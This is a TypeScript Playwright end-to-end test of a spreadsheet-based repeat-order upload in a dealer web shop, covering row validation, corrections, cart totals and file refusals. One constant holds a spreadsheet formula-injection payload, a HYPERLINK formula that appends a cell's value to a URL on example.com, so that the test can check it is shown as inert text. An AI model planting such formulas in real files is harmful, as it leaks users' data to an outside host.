import { zipSync } from "fflate";
import type { Page } from "playwright-core";
import { readSheet } from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Visitor } from "../support/browser.ts";
import { until } from "../support/until.ts";
import { Dealer } from "./dealer.ts";
import { savedBy, sheet, XLSX } from "./files.ts";
import { tooWide, violations } from "./looks.ts";
import { openAs } from "./money.ts";
import { newUser } from "./people.ts";
import { type Account, closeBrowser, look, settled } from "./steps.ts";
import { blocked, inStock, type StockedArticle } from "./stock.ts";
import { textsIn } from "./texts.ts";
import { siteOfWorker } from "./worker.ts";

const site = siteOfWorker();
const t = textsIn("en");
const PATH = "/en-us/catalog/repeat-order";
/** A text that a spreadsheet would take for a formula which calls out. */
const FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Click")';

let account: Account;
let dealer: Dealer;
let goods: readonly StockedArticle[];
let barred: StockedArticle;

beforeAll(async () => {
  const userAreas = [{ sorg: "U001" }];
  account = await newUser(site, "admin.us", { name: "Lea Ortiz", roles: ["dealer"], custCode: "US0012", userAreas });
  dealer = await Dealer.signIn(site, account);
  [goods, barred] = await Promise.all([inStock(dealer, 4, 12), blocked(dealer)]);
});
afterAll(closeBrowser);

interface Chosen {
  readonly name: string;
  readonly mimeType: string;
  readonly buffer: Buffer;
}
const choose = (page: Page, file: Chosen) => page.getByLabel(t("repeat_file"), { exact: true }).setInputFiles(file);
const orderFile = (content: Buffer): Chosen => ({ name: "order.xlsx", mimeType: XLSX, buffer: content });
const outcome = (page: Page) => page.getByRole("table", { name: t("repeat_outcome") });
/** The outcome of a row of the sheet, whose first row is the head. */
const rowOf = (page: Page, number: number) =>
  outcome(page)
    .locator("tbody tr")
    .nth(number - 2);
const add = (page: Page, count: number) =>
  page.getByRole("button", { name: t(count === 1 ? "fast_add_one" : "fast_add_other", { count }), exact: true });

async function cartOf(): Promise<ReadonlyMap<string, number>> {
  return new Map((await dealer.cart()).map(({ article_code, qty }) => [article_code, qty]));
}

describe("an order by file", () => {
  let visitor: Visitor;
  let page: Page;
  let head: readonly string[] = [];
  let corrections: Buffer;
  let first: StockedArticle;
  let second: StockedArticle;
  let scarce: StockedArticle;

  beforeAll(async () => {
    const [article1, article2, article3] = goods;
    if (!article1 || !article2 || !article3) throw new Error("too few articles");
    [first, second, scarce] = [article1, article2, article3];
    visitor = await openAs(site, account, { width: 1440, locale: "en-US" }, PATH);
    page = visitor.page;
  });
  afterAll(async () => {
    await look(page, "repeat order end");
    await visitor.leave();
  });

  test("[capability-005] the template says what belongs where", async () => {
    const template = await savedBy(page, t("repeat_template"));
    expect(template.name).toBe("repeat-order.xlsx");
    const rows = await readSheet(template.content);
    expect(rows).toHaveLength(1);
    head = (rows[0] ?? []).map(String);
    expect(head).toEqual(["Article code", "Quantity", "Seller"]);
  });

  test("[capability-005] every row of a file says what would become of it", async () => {
    const file = await sheet([
      head,
      [first.code, 2, ""],
      [second.code, 3, "U001"],
      ["NO-SUCH-ARTICLE", 1, ""],
      [barred.code, 1, ""],
      [scarce.code, scarce.pieces + 7, ""],
      [first.code.toLowerCase(), 4, ""],
      [FORMULA, 1, ""],
      [second.code, "", ""],
    ]);
    await choose(page, orderFile(file));
    await page.getByText(t("repeat_refused_other", { count: 5 })).waitFor();
    const expected: readonly (readonly [number, string, string])[] = [
      [2, t("repeat_state_fine"), t("fast_sum_other", { count: 6 })],
      [3, t("repeat_state_fine"), ""],
      [4, t("repeat_state_wrong"), t("article_not_found")],
      [5, t("repeat_state_wrong"), t("article_blocked")],
      [6, t("repeat_state_wrong"), t("over_stock", { available: scarce.pieces })],
      [7, t("repeat_state_added"), t("fast_added_to", { row: 2 })],
      [8, t("repeat_state_wrong"), t("article_not_found")],
      [9, t("repeat_state_wrong"), t("qty_whole")],
    ];
    for (const [number, state, note] of expected) {
      const text = await rowOf(page, number).textContent();
      expect(text, `row ${number}`).toContain(state);
      expect(text, `row ${number}`).toContain(note);
    }
    // Written as it was, and nothing of it a link or a call.
    expect(await rowOf(page, 8).textContent()).toContain(FORMULA);
    expect(await rowOf(page, 8).getByRole("link").count()).toBe(0);
    await look(page, "repeat order outcome");
    expect(await violations(page)).toEqual([]);
    expect(await cartOf()).toEqual(new Map());
  });

  test("[capability-005] the rows that are wrong come back to be corrected", async () => {
    const saved = await savedBy(page, t("repeat_corrections"));
    expect(saved.name).toMatch(/\.xlsx$/);
    corrections = saved.content;
    const [heads = [], ...rows] = await readSheet(corrections);
    expect(heads.slice(0, 3)).toEqual(head);
    expect(rows.map(([code]) => code)).toEqual(["NO-SUCH-ARTICLE", barred.code, scarce.code, FORMULA, second.code]);
    const [, , over = []] = rows;
    expect(over[1]).toBe(scarce.pieces + 7);
    expect(rows.map((row) => row[3])).toEqual([
      t("article_not_found"),
      t("article_blocked"),
      t("over_stock", { available: scarce.pieces }),
      t("article_not_found"),
      expect.stringMatching(/whole number/),
    ]);
  });

  test("[cart-002] the good ones go into the cart once, and what stands twice is added up", async () => {
    await add(page, 2).dblclick();
    await page.getByText(t("fast_added_other", { count: 2 })).waitFor();
    const wanted = new Map([
      [first.code, 6],
      [second.code, 3],
    ]);
    expect(await cartOf()).toEqual(wanted);
    for (const number of [2, 3, 7])
      expect(await rowOf(page, number).textContent()).toContain(t("repeat_state_in_cart"));
    await page.getByRole("button", { name: t("cart_button", { count: 9 }), exact: true }).waitFor();
    expect(await add(page, 0).count()).toBe(0);
    expect(await page.getByRole("link", { name: t("cart_view"), exact: true }).count()).toBe(2);
    expect(await cartOf()).toEqual(wanted);
  });

  test("[capability-005] the corrected file is taken, and counts what is in the cart already", async () => {
    const [heads = [], ...rows] = await readSheet(corrections);
    const text = (cell: unknown): string => (cell === null || cell === undefined ? "" : String(cell));
    const corrected = rows
      .filter(([code]) => code === scarce.code || code === second.code)
      .map(([code, , ...others]) => [text(code), code === scarce.code ? scarce.pieces : 2, ...others.map(text)]);
    await choose(page, orderFile(await sheet([heads.map(text), ...corrected])));
    await rowOf(page, 3)
      .getByText(t("fast_in_cart_other", { count: 3, total: 5 }))
      .waitFor();
    expect(await page.getByText(t("repeat_refused_text")).count()).toBe(0);
    await add(page, 2).click();
    await page.getByText(t("fast_added_other", { count: 2 })).waitFor();
    expect(await cartOf()).toEqual(
      new Map([
        [first.code, 6],
        [second.code, 5],
        [scarce.code, scarce.pieces],
      ]),
    );
    expect(visitor.noise()).toEqual([]);
  });
});

describe("an unreadable file", () => {
  const text = Buffer.from("no table");
  const zip = Buffer.from(zipSync({ "notes.txt": new TextEncoder().encode("no spreadsheet") }));
  const refusals = [
    {
      what: "a .pdf file",
      file: { name: "order.pdf", mimeType: "application/pdf", buffer: text },
      says: t("file_not_table"),
      status: undefined,
    },
    { what: "a renamed archive", file: orderFile(zip), says: t("file_not_table"), status: 400 },
    { what: "a renamed text", file: orderFile(text), says: t("file_not_table"), status: 400 },
    {
      what: "an oversized file",
      file: orderFile(Buffer.alloc(1_000_001, "PK")),
      says: t("file_too_large", { megabytes: 1 }),
      status: undefined,
    },
  ];
  test.for(refusals)("[checkout-011] [upload-001] $what is refused in words", async ({ file, says, status }) => {
    const visitor = await openAs(site, account, { width: 390, locale: "en-US" }, PATH);
    const { page } = visitor;
    if (status) visitor.expect({ path: "/api/repeat-order/check", status });
    await choose(page, file);
    await page.getByText(says, { exact: true }).waitFor();
    expect(await page.getByLabel(t("repeat_file"), { exact: true }).getAttribute("aria-invalid")).toBe("true");
    expect(await outcome(page).count()).toBe(0);
    await visitor.leave();
  });
});

test("[capability-005] on a phone the result of a file fits", async () => {
  await dealer.emptyCart();
  const [article, other] = goods;
  const visitor = await openAs(site, account, { width: 390, locale: "en-US" }, PATH);
  const { page } = visitor;
  await choose(
    page,
    orderFile(
      await sheet([
        [article?.code ?? "", 1],
        [other?.code ?? "", 100_000],
        ["X".repeat(60), 1],
      ]),
    ),
  );
  await page.getByText(t("repeat_refused_other", { count: 2 })).waitFor();
  await settled(page);
  await look(page, "repeat order phone");
  expect(await tooWide(page)).toEqual([]);
  expect(await violations(page)).toEqual([]);
  await add(page, 1).click();
  await until("it is in the cart", async () => (await cartOf()).get(article?.code ?? "") === 1);
  await dealer.emptyCart();
  await visitor.leave();
});
